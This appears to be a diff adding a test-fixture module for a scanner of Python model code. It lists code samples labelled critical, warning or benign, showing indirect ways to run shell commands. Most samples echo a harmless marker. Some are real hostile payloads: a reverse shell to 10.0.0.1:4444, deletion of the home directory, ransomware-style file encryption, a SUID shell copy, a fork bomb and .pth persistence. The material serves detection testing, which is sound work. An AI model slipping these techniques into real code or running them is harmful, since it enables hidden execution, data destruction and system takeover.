@@ -1,0 +1,365 @@
+"""Ways in which a model's Python runs something without calling it by its name, and honest uses of the same means."""
+
+from __future__ import annotations
+
+CRITICAL = {
+    "closure": """import os
+def make():
+    def inner():
+        os.system("echo modelsweep-test")
+    return inner
+make()()
+""",
+    "returned_function": """import os
+def pick():
+    return os.system
+pick()("echo modelsweep-test")
+""",
+    "atexit_decorator": """import atexit, os
+@atexit.register
+def bye():
+    os.system("echo modelsweep-test")
+""",
+    "decorator_factory": """import os
+def deco(cmd):
+    def wrap(f):
+        os.system(cmd)
+        return f
+    return wrap
+@deco("echo modelsweep-test")
+def f(): pass
+""",
+    "decorator_lambda": """import os
+@lambda f: os.system("echo modelsweep-test")
+def f(): pass
+""",
+    "excepthook": """import sys, os
+def hook(t, v, tb):
+    os.system("echo modelsweep-test")
+sys.excepthook = hook
+""",
+    "metapath_iadd": """import sys, os
+class F:
+    @classmethod
+    def find_spec(cls, name, path, target=None):
+        os.system("echo modelsweep-test")
+sys.meta_path += [F]
+""",
+    "metaclass_func": """import os
+def M(name, bases, ns):
+    os.system("echo modelsweep-test")
+    return type(name, bases, ns)
+class A(metaclass=M): pass
+""",
+    "with_exit": """import os
+class A:
+    def __enter__(self): pass
+    def __exit__(self, *a): os.system("echo modelsweep-test")
+with A(): pass
+""",
+    "annotation": """import os
+def f(x: os.system("echo modelsweep-test")): pass
+""",
+    "dictcomp": """{k: __import__(k).system("echo modelsweep-test") for k in ["os"]}
+""",
+    "partial": """from functools import partial
+import os
+partial(os.system, "echo modelsweep-test")()
+""",
+    "mp_ctx": """import multiprocessing as mp, os
+mp.get_context("fork").Process(target=os.system, args=("echo modelsweep-test",)).start()
+""",
+    "super_init": """import os
+class R:
+    def __init__(self, c): os.system(c)
+class S(R):
+    def __init__(self): super().__init__("echo modelsweep-test")
+S()
+""",
+    "self_attr": """import os
+class R:
+    def __init__(self): self.f = os.system
+    def go(self): self.f("echo modelsweep-test")
+R().go()
+""",
+    "nonlocal": """import os
+def outer():
+    f = None
+    def set_():
+        nonlocal f
+        f = os.system
+    set_()
+    f("echo modelsweep-test")
+outer()
+""",
+    "frame_globals": """import sys
+sys._getframe(0).f_builtins["exec"]("import os; os.system('echo modelsweep-test')")
+""",
+    "timeit": """import timeit
+timeit.timeit("os.system('echo modelsweep-test')", "import os", number=1)
+""",
+    "chmod_suid": """import os, shutil
+shutil.copy("/bin/bash", "/opt/acme/.b")
+os.chmod("/opt/acme/.b", 0o4755)
+""",
+    "rmtree_home_path": """import shutil
+from pathlib import Path
+shutil.rmtree(Path.home())
+""",
+    "encrypt_files": """import os
+from cryptography.fernet import Fernet
+k = Fernet(Fernet.generate_key())
+for r, d, fs in os.walk(os.path.expanduser("~")):
+    for f in fs:
+        p = os.path.join(r, f)
+        data = open(p, "rb").read()
+        open(p, "wb").write(k.encrypt(data))
+""",
+    "socket_recv_loop": """import socket, subprocess
+s=socket.socket(); s.connect(("10.0.0.1",4444))
+while True:
+    d=s.recv(1024).decode()
+    s.send(subprocess.getoutput(d).encode())
+""",
+    "pth_write": """import site, os
+open(os.path.join(site.getsitepackages()[0], "x.pth"), "w").write("import os; os.system('echo modelsweep-test')")
+""",
+    "await_dunder": """import os, asyncio
+class A:
+    def __await__(self):
+        os.system("echo modelsweep-test"); yield
+async def main():
+    await A()
+asyncio.run(main())
+""",
+    "inherited_method": """import os
+class R:
+    def go(self, c): return os.system(c)
+class S(R): pass
+S().go("echo modelsweep-test")
+""",
+    "subprocess_class": """from subprocess import Popen as P
+class Q(P): pass
+Q("echo modelsweep-test", shell=True)
+""",
+    "monkey_builtin_import": """import builtins, os
+o = builtins.__import__
+def imp(*a, **k):
+    os.system("echo modelsweep-test")
+    return o(*a, **k)
+builtins.__import__ = imp
+""",
+    "namespace_obj": """import os, types
+n = types.SimpleNamespace(f=os.system)
+n.f("echo modelsweep-test")
+""",
+    "enum_missing": """import os, enum
+class E(enum.Enum):
+    A = 1
+    @classmethod
+    def _missing_(cls, v): os.system(v)
+try: E("echo modelsweep-test")
+except ValueError: pass
+""",
+    "getitem_eq_system": """import os
+class A: pass
+A.__class_getitem__ = os.system
+A["echo modelsweep-test"]
+""",
+    "jinja_unsandboxed": """import jinja2
+jinja2.Template("{{ cycler.__init__.__globals__.os.popen('echo modelsweep-test').read() }}").render()
+""",
+    "pd_apply": """import os, pandas as pd
+pd.Series(["echo modelsweep-test"]).apply(os.system)
+""",
+    "unittest_mock": """from unittest.mock import patch
+import os
+with patch("json.loads", os.system) as m:
+    import json; json.loads("echo modelsweep-test")
+""",
+}
+WARNING = {
+    "class_getitem": """import os
+class B:
+    def __class_getitem__(cls, k): os.system(k)
+B["echo modelsweep-test"]
+""",
+    "op_overload_getitem": """import os
+class A:
+    def __getitem__(self, o): os.system(o)
+A()["echo modelsweep-test"]
+""",
+    "ld_preload_only": """import os
+os.environ["LD_PRELOAD"] = os.path.join(os.path.dirname(__file__), "libx.so")
+""",
+    "pythonstartup": """import os
+os.environ.update({"PYTHONSTARTUP": "/opt/acme/x.py"})
+""",
+    "write_import_pathlib": r"""import sys, pathlib, importlib
+p = pathlib.Path(__file__).parent / "acmemod.py"
+p.write_text("import os\nos.system('echo modelsweep-test')")
+importlib.import_module("acmemod")
+""",
+    "fork_bomb": """import os
+while True:
+    os.fork()
+""",
+    "imp_machinery_spec": """import importlib.util
+spec = importlib.util.spec_from_file_location("x", "weights.dat")
+m = importlib.util.module_from_spec(spec)
+spec.loader.exec_module(m)
+""",
+    "zipimport": """import zipimport
+zipimport.zipimporter("weights.zip").load_module("x")
+""",
+    "code_interact": """import code
+code.interact()
+""",
+    "pickle_unpickler": """import pickle
+class U(pickle.Unpickler): pass
+U(open("w","rb")).load()
+""",
+    "shelve": """import shelve
+shelve.open("w")["x"]
+""",
+    "yaml_load": """import yaml
+yaml.load("!!python/object/apply:os.system ['echo modelsweep-test']", Loader=yaml.UnsafeLoader)
+""",
+    "keras_load_safe_mode": """import keras
+keras.models.load_model("w.keras", safe_mode=False)
+""",
+    "keras_custom": """import keras
+keras.config.enable_unsafe_deserialization()
+keras.models.load_model("w.keras")
+""",
+    "pd_eval": """import pandas as pd
+pd.eval("@__import__('os').system('echo modelsweep-test')")
+""",
+    "logging_config": """import logging.config
+logging.config.dictConfig({"version":1,"handlers":{"x":{"()":"os.system","command":"echo modelsweep-test"}}})
+""",
+    "pip_subprocess_git": """import subprocess, sys
+subprocess.check_call([sys.executable,"-m","pip","install","git+https://example.com/acme.git"])
+""",
+    "subclasses_index": """object.__subclasses__()[137]("echo modelsweep-test", shell=True)
+""",
+    "codetype": r"""import types
+c = (lambda: 0).__code__.replace(co_code=b"\x00")
+types.FunctionType(c, globals())()
+""",
+    "copyreg_pickle": """import copyreg, os
+class A: pass
+copyreg.pickle(A, lambda a: (os.system, ("echo modelsweep-test",)))
+""",
+    "pickle_reduce_roundtrip": """import pickle, os
+class A:
+    def __reduce__(self): return os.system, ("echo modelsweep-test",)
+pickle.loads(pickle.dumps(A()))
+""",
+    "reset_parameters": """import os, torch
+class AcmeModel(torch.nn.Module):
+    def _init_weights(self, m):
+        os.system("echo modelsweep-test")
+""",
+    "dataclass_factory": """import os, dataclasses
+@dataclasses.dataclass
+class A:
+    x: int = dataclasses.field(default_factory=lambda: os.system("echo modelsweep-test"))
+A()
+""",
+    "sqlite_ext": """import sqlite3
+c = sqlite3.connect(":memory:"); c.enable_load_extension(True); c.load_extension("./acme")
+""",
+    "posixsubprocess": """import _posixsubprocess, os
+pipes = [-1] * 6
+_posixsubprocess.fork_exec([b"/bin/echo", b"x"], [b"/bin/echo"], True, (), None, None, *pipes, 1, 2, False, False)
+""",
+}
+BENIGN = {
+    "hooks": """import atexit, signal, sys, warnings
+import torch
+
+def close():
+    print("bye")
+
+atexit.register(close)
+signal.signal(signal.SIGINT, lambda *_: sys.exit(1))
+sys.excepthook = lambda kind, value, trace: print(value)
+warnings.showwarning = print
+""",
+    "decorated": """import functools, torch
+
+def logged(prefix):
+    def wrap(function):
+        @functools.wraps(function)
+        def inner(*args):
+            print(prefix)
+            return function(*args)
+        return inner
+    return wrap
+
+@logged("forward")
+@torch.no_grad()
+def forward(x: torch.Tensor) -> torch.Tensor:
+    return x
+
+forward(1)
+""",
+    "operators": """import torch
+
+class Registry(dict):
+    def __missing__(self, key):
+        raise KeyError(key)
+
+    def __class_getitem__(cls, key):
+        return cls
+
+    def __exit__(self, *error):
+        self.clear()
+
+R: Registry["x"] = Registry()
+with torch.no_grad():
+    R["a"] = lambda: R
+""",
+    "environment": """import os
+os.environ["TOKENIZERS_PARALLELISM"] = "false"
+os.environ.setdefault("CUDA_VISIBLE_DEVICES", "0")
+os.chmod("cache", 0o755)
+""",
+    "loading": """import importlib.util, os, yaml, torch, numpy
+from logging.config import dictConfig
+
+spec = importlib.util.spec_from_file_location("helper", os.path.join(os.path.dirname(__file__), "helper.py"))
+module = importlib.util.module_from_spec(spec)
+with open("config.yaml") as stream:
+    config = yaml.load(stream, Loader=yaml.SafeLoader)
+dictConfig({"version": 1, "handlers": {"console": {"class": "logging.StreamHandler"}}})
+torch.load("model.bin", weights_only=True)
+""",
+    "checked": """import inspect, subprocess
+from functools import wraps
+
+def run(command):
+    return subprocess.run(command, check=True)
+
+RUNS = isinstance(run, subprocess.Popen) or callable(subprocess.run)
+inspect.signature(eval)
+SIZE = (1024).to_bytes(2, "big") + int.to_bytes(length=2, byteorder="little", number=5)
+for base in type(RUNS).__subclasses__():
+    print(base.__name__, base.__init__.__code__.co_varnames)
+""",
+    "tools": """import subprocess, sys
+
+def probe(path):
+    return subprocess.check_output(["ffprobe", "-v", "error", path])
+
+class Video:
+    def __init__(self, path):
+        subprocess.run(["ffmpeg", "-i", path, "out.wav"], check=True)
+
+subprocess.check_call([sys.executable, "-m", "pip", "install", "einops"])
+INDEX = ["--index-url", "https://download.pytorch.org/whl/cpu"]
+subprocess.check_call([sys.executable, "-m", "pip", "install", "torch", *INDEX])
+subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://download.pytorch.org/whl/cpu"])
+""",
+}
